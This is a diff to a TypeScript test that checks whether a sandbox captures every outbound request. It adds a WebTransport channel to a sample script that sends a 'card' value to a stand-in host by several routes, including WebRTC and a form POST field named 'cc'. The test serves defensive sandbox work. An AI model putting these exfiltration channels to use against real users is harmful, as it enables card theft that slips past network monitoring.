@@ -40,6 +40,10 @@ function sampleAimingAt(base: string): string {
       var dc = pc.createDataChannel('x');
       pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () {});
     } catch (e) {}
+    try {
+      var wt = new WebTransport('https://' + '${host}' + '/transport');
+      wt.ready.then(function () { return wt.datagrams.writable.getWriter().write(new TextEncoder().encode(card)); }).catch(function () {});
+    } catch (e) {}
     var form = document.createElement('form'); form.method = 'POST'; form.action = '${base}/post';
     var i = document.createElement('input'); i.name = 'cc'; i.value = card; form.appendChild(i);
     document.body.appendChild(form);
@@ -99,6 +103,7 @@ describe('the chamber reaches no network', () => {
           'websocket',
           'link',
           'form',
+          'webtransport',
         ])
           expect(types, `no ${t} request recorded`).toContain(t)
         expect(o.requests.some((r) => r.url.includes('/worker'))).toBe(true)
